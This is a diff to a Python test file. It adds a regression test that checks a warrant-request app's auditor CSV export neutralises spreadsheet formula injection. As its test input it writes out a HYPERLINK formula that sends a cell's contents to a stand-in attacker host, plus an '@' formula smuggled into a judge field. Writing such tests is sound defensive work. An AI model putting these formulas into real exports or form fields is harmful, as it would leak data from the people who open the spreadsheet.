@@ -5,6 +5,8 @@ a request cannot go ahead."""
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import re
 from functools import partial
 from typing import Any
@@ -129,6 +131,23 @@ def test_the_auditor_export_is_a_logged_read_of_the_warrants(
     raw = base64.b64decode(entry["entry"]).decode()
     for field in ("court", "docket_number", "judge", "document_sha256"):
         assert warrant[field] not in raw, field
+
+
+def test_the_auditor_export_never_hands_a_spreadsheet_a_formula(
+    app: FastAPI, community: Community
+) -> None:
+    """A requester's offence text (or a judge's name) starting with = + - @ ran as a formula
+    when the auditor opened the export in a spreadsheet; now it is shown as text."""
+    world = make_world(community)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    world.submit(offence=formula, **{"warrant.judge": "@SUM(1+1)"})
+    browser = Browser(app, community, community.person(Role.auditor))
+    exported = browser.client.get("/audit/export/requests.csv", headers=HTML)
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert rows[-1]["offence"] == "'" + formula
+    assert rows[-1]["judge"] == "'@SUM(1+1)"
+    assert rows[-1]["court"] == "Testshire Magistrates' Court"  # other text is unchanged
 
 
 def _log_entries(community: Community, auditor: Person) -> list[dict[str, Any]]:
